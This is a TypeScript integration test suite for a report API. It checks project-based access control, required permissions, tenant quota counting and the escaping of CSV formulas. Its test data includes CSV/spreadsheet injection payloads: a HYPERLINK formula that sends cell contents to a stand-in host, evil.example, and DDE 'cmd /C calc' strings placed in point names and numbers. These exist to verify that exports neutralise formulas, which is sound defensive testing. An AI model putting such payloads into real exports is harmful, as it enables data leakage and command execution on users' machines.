import * as XLSX from 'xlsx';
import { queryTestDatabase, waitUntil, type ApiResponse } from '@mp/testing';
import { createTenant, identityClient, tenantKey, upsertPlan } from '../support/identity.js';
import { ALL_PERMISSIONS, expectError, startTestPlatform, type TestPlatform } from '../support/platform.js';

// A report holds every record of its project and period, so it must never reach a principal that
// could not read that data directly: not a user outside the project (403001, absent from lists),
// not a key holding only report permissions (401004). Its CSV must not run formulas whatever
// separator the spreadsheet splits on, and a refused generation must not use up the tenant's
// report limit.
describe('reports follow the access of the data they hold', () => {
  let t: TestPlatform;
  let admin: Record<string, string>;
  let projectId: string;
  let otherProjectId: string;
  let templateId: string;
  let reportId: string;
  let otherReportId: string;
  const users: Record<string, { id: string; h: Record<string, string> }> = {};
  const FROM = '2026-03-01T00:00:00Z';
  const TO = '2026-03-02T00:00:00Z';
  // Point names and numbers a tenant user typed, made to run in a spreadsheet: after a `;` (a
  // spreadsheet of a `;` locale splits there, inside our quoted comma-separated field), after a
  // comma, and at the start.
  const HOSTILE_NAME = 'Crown;=HYPERLINK("http://evil.example/?"&A1;"open")';
  const HOSTILE_NAME_2 = "Wall, @SUM(1+1)*cmd|' /C calc'!A0";
  const HOSTILE_NUMBER = "-2+3+cmd|' /C calc'!A0";

  const must = async (res: Promise<ApiResponse>) => {
    const r = await res;
    if (r.status !== 200) throw new Error(`set-up call failed: ${r.status} ${r.text}`);
    return r.body.data;
  };
  const reportCount = async () => (await queryTestDatabase<{ n: number }>(t.db.url, 'SELECT count(*)::int AS n FROM reports.reports'))[0]!.n;
  const generated = (id: string) =>
    waitUntil(
      async () => {
        const res = await t.api('GET', `/reports/${id}`, { headers: admin });
        return res.body.data.status === 'generated' ? res.body.data : null;
      },
      { timeoutMs: 60_000, intervalMs: 100, message: `report ${id} not generated` },
    );
  const makeUser = async (username: string, permissions: string[], headers = admin) => {
    const password = `${username} pass phrase`;
    const created = await must(t.api('POST', '/users', { headers, body: { username, password, name: username, permissions } }));
    const login = await must(t.api('POST', '/auth/login', { body: { username, password, grant_type: 'password' } }));
    return { id: created.id as string, h: { authorization: `Bearer ${login.access_token}` } };
  };

  beforeAll(async () => {
    t = await startTestPlatform();
    admin = { 'x-api-key': await t.apiKey(['system:admin', 'project:read', 'project:write', 'data:read', 'data:write', 'report:read', 'report:write']) };
    const project = async (name: string) => {
      const p = await must(t.api('POST', '/projects', { headers: admin, body: { name, number: name, start_date: '2026-01-01' } }));
      await must(t.api('PUT', `/projects/${p.id}/status`, { headers: admin, body: { status: 'in_progress' } }));
      return p.id as string;
    };
    projectId = await project('Harbour tunnel');
    otherProjectId = await project('Airport bridge');
    const records: unknown[] = [];
    for (const [number, name] of [
      ['JC-01', HOSTILE_NAME],
      [HOSTILE_NUMBER, HOSTILE_NAME_2],
    ]) {
      const p = await must(
        t.api('POST', `/projects/${projectId}/points`, {
          headers: admin,
          body: { number, name, sensor_type: 'total_station', reference: { x: 1, y: 2, z: 3 }, thresholds: { warning: 50, alarm: 80 } },
        }),
      );
      for (let i = 0; i < 4; i++) {
        records.push({ point_id: p.id, measured_at: new Date(Date.parse(FROM) + i * 3600_000).toISOString(), values: { dx: -1.25 * (i + 1), dz: -0.5 } });
      }
    }
    await must(t.api('POST', `/projects/${projectId}/data`, { headers: admin, body: { records } }));
    templateId = (
      await must(t.api('POST', '/templates', { headers: admin, body: { name: 'All', sections: ['summary', 'latest'], formats: ['pdf', 'csv', 'xlsx'] } }))
    ).id;
    const body = { template_id: templateId, from: FROM, to: TO };
    reportId = (await must(t.api('POST', `/projects/${projectId}/reports`, { headers: admin, body }))).id;
    otherReportId = (await must(t.api('POST', `/projects/${otherProjectId}/reports`, { headers: admin, body }))).id;
    await generated(reportId);
    await generated(otherReportId);

    const everything = ['project:read', 'data:read', 'report:read', 'report:write'];
    users.outsider = await makeUser('rpt.outsider', everything);
    users.viewer = await makeUser('rpt.viewer', everything);
    users.editor = await makeUser('rpt.editor', everything);
    for (const [who, role] of [
      ['viewer', 'viewer'],
      ['editor', 'editor'],
    ] as const) {
      await must(t.api('POST', `/projects/${projectId}/members`, { headers: admin, body: { user_id: users[who]!.id, role } }));
    }
  }, 180_000);

  afterAll(async () => {
    await t?.stop();
  });

  it('refuses a user outside the project every report route with 403001, as the project itself, and lists none of its reports', async () => {
    const h = users.outsider!.h;
    expectError(await t.api('GET', `/projects/${projectId}`, { headers: h }), 403001, 'project_id');

    const listed = await t.api('GET', '/reports', { headers: h });
    expect(listed.status).toBe(200);
    expect(listed.body.data.items).toEqual([]);
    expect((await t.api('GET', `/reports?project_id=${projectId}`, { headers: h })).body.data.items).toEqual([]);

    expectError(await t.api('GET', `/reports/${reportId}`, { headers: h }), 403001, 'report_id');
    for (const format of ['pdf', 'csv', 'xlsx']) {
      const file = await t.api('GET', `/reports/${reportId}/file?format=${format}`, { headers: h });
      expectError(file, 403001, 'report_id');
      expect(file.headers['content-disposition']).toBeUndefined();
    }
    expectError(await t.api('POST', `/reports/${reportId}/approve`, { headers: h, body: { comment: 'looks fine' } }), 403001, 'report_id');
    expectError(await t.api('POST', `/reports/${reportId}/reject`, { headers: h, body: { reason: 'no' } }), 403001, 'report_id');
    const before = await reportCount();
    expectError(
      await t.api('POST', `/projects/${projectId}/reports`, { headers: h, body: { template_id: templateId, from: FROM, to: TO } }),
      403001,
      'project_id',
    );

    // Nothing changed: the report is still awaiting review, no report was stored.
    const [row] = await queryTestDatabase<{ status: string; reviewed_by: string | null }>(
      t.db.url,
      'SELECT status, reviewed_by FROM reports.reports WHERE id = $1',
      [reportId],
    );
    expect(row).toEqual({ status: 'generated', reviewed_by: null });
    expect(await reportCount()).toBe(before);
  });

  it('gives members what their role gives them, and takes it away when the membership goes', async () => {
    // A member reads, lists and downloads the reports of its project only.
    const viewer = users.viewer!.h;
    expect((await t.api('GET', '/reports', { headers: viewer })).body.data.items.map((r: { id: string }) => r.id)).toEqual([reportId]);
    expect((await t.api('GET', `/reports?project_id=${otherProjectId}`, { headers: viewer })).body.data.items).toEqual([]);
    expect((await t.api('GET', `/reports/${reportId}`, { headers: viewer })).status).toBe(200);
    expect((await t.api('GET', `/reports/${reportId}/file?format=csv`, { headers: viewer })).status).toBe(200);
    expectError(await t.api('GET', `/reports/${otherReportId}`, { headers: viewer }), 403001, 'report_id');
    expectError(await t.api('GET', `/reports/${otherReportId}/file?format=pdf`, { headers: viewer }), 403001, 'report_id');
    // A viewer's role is read-only: a review is a decision on the project's behalf.
    expectError(await t.api('POST', `/reports/${reportId}/approve`, { headers: viewer, body: {} }), 403002, 'report_id');
    expect((await t.api('GET', `/reports/${reportId}`, { headers: admin })).body.data.status).toBe('generated');

    // Removing the member acts at once.
    expect((await t.api('DELETE', `/projects/${projectId}/members/${users.viewer!.id}`, { headers: admin })).status).toBe(200);
    expectError(await t.api('GET', `/reports/${reportId}`, { headers: viewer }), 403001, 'report_id');
    expect((await t.api('GET', '/reports', { headers: viewer })).body.data.items).toEqual([]);

    // An editor reviews.
    const approved = await t.api('POST', `/reports/${reportId}/approve`, { headers: users.editor!.h, body: { comment: 'checked' } });
    expect(approved.status).toBe(200);
    expect(approved.body.data).toMatchObject({ status: 'approved', approved_by: users.editor!.id });
  });

  it('needs project:read and data:read, as reading the data does, to generate or download a report', async () => {
    const key = async (permissions: string[]) => ({ 'x-api-key': await t.apiKey(permissions) });
    const body = { template_id: templateId, from: FROM, to: TO };
    const before = await reportCount();
    for (const permissions of [['report:write'], ['report:write', 'project:read'], ['report:write', 'data:read']]) {
      const res = await t.api('POST', `/projects/${projectId}/reports`, { headers: await key(permissions), body });
      expectError(res, 401004);
    }
    expect(await reportCount()).toBe(before);

    const reader = await key(['report:read']);
    expect((await t.api('GET', `/reports/${reportId}`, { headers: reader })).status).toBe(200);
    for (const format of ['pdf', 'csv', 'xlsx']) expectError(await t.api('GET', `/reports/${reportId}/file?format=${format}`, { headers: reader }), 401004);
    expectError(await t.api('GET', `/reports/${reportId}/file?format=csv`, { headers: await key(['report:read', 'project:read']) }), 401004);
    expectError(await t.api('GET', `/reports/${reportId}/file?format=csv`, { headers: await key(['report:read', 'data:read']) }), 401004);

    // With what reading the data takes, both work.
    const full = await key(['report:read', 'report:write', 'project:read', 'data:read']);
    expect((await t.api('GET', `/reports/${reportId}/file?format=csv`, { headers: full })).status).toBe(200);
    expect((await t.api('POST', `/projects/${projectId}/reports`, { headers: full, body })).status).toBe(200);
  });

  it('writes a CSV in which no cell can start a formula, whichever separator a spreadsheet uses, and keeps numbers numbers', async () => {
    const csv = await t.api('GET', `/reports/${reportId}/file?format=csv`, { headers: admin });
    expect(csv.status).toBe(200);
    const text = csv.text;
    // Every way a spreadsheet could cut the file into cells: by comma, semicolon or tab, and lines
    // by CR or LF (a line break inside a quoted field ends a line for a reader that splits on
    // another separator). A cell may begin with spaces or quotes before its first character.
    const trigger = /^[ "]*[=+\-@\t\r]/;
    const number = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
    for (const separator of [',', ';', '\t']) {
      for (const line of text.split(/\r\n|\r|\n/)) {
        for (const cellText of line.split(separator)) {
          if (number.test(cellText)) continue;
          expect({ separator, cell: cellText, formula: trigger.test(cellText) }).toEqual({ separator, cell: cellText, formula: false });
        }
      }
    }
    // Read as the comma-separated file it is: the names are text, shown with the apostrophe that
    // keeps them text, and the negative values are numbers.
    const rows = XLSX.utils.sheet_to_json<unknown[]>(XLSX.read(text, { type: 'string' }).Sheets.Sheet1!, { header: 1, raw: true });
    const header = rows[0] as string[];
    const names = new Set(rows.slice(1).map((r) => r[header.indexOf('point_name')]));
    expect(names).toEqual(new Set(['Crown;\'=HYPERLINK("http://evil.example/?"&A1;"open")', "Wall,' @SUM(1+1)*cmd|' /C calc'!A0"]));
    expect(new Set(rows.slice(1).map((r) => r[header.indexOf('point_number')]))).toEqual(new Set(['JC-01', "'-2+3+cmd|' /C calc'!A0"]));
    const dz = rows.slice(1).map((r) => r[header.indexOf('dz')]);
    expect(dz).toHaveLength(8);
    for (const v of dz) expect(v).toBe(-0.5);
    const dx = rows.slice(1).map((r) => r[header.indexOf('dx')]);
    for (const v of dx) expect(typeof v).toBe('number');
  });

  it('counts only accepted generations against the tenant report limit', async () => {
    const id = identityClient(t);
    try {
      await upsertPlan(id, 'reports-two', ['reports'], { reportsPerHour: 2 });
      const tenant = await createTenant(id, 'reports-two');
      const key = { 'x-api-key': await tenantKey(id, tenant, ALL_PERMISSIONS) };
      const project = (await must(t.api('POST', '/projects', { headers: key, body: { name: 'Quota', number: 'Q-1' } }))).id;
      const template = (await must(t.api('POST', '/templates', { headers: key, body: { name: 'T', sections: ['summary'] } }))).id;
      const outsider = await makeUser(`quota.outsider.${tenant.id}`, ['project:read', 'data:read', 'report:read', 'report:write'], key);
      const body = { template_id: template, from: FROM, to: TO };
      const generate = (headers: Record<string, string>, b: Record<string, unknown> = body, projectRef = project) =>
        t.api('POST', `/projects/${projectRef}/reports`, { headers, body: b });

      // Refusals of every kind, more of them than the limit: none stores a report, none counts.
      for (let i = 0; i < 3; i++) expectError(await generate(outsider.h), 403001, 'project_id');
      expectError(await generate(key, { ...body, template_id: 'tpl_00000000000000000000' }), 404006, 'template_id');
      expectError(await generate(key, { ...body, from: TO, to: FROM }), 422204, 'to');
      expectError(await generate(key, body, 'prj_00000000000000000000'), 404001, 'project_id');

      // The tenant still has both of its generations, then the third is 429003.
      expect((await generate(key)).status).toBe(200);
      expect((await generate(key)).status).toBe(200);
      const refused = await generate(key);
      expectError(refused, 429003);
      expect(refused.headers['x-ratelimit-limit']).toBe('2');
      const [{ n }] = await queryTestDatabase<{ n: number }>(t.db.url, 'SELECT count(*)::int AS n FROM reports.reports WHERE tenant_id = $1', [tenant.id]);
      expect(n).toBe(2);
    } finally {
      id.close();
    }
  });
});
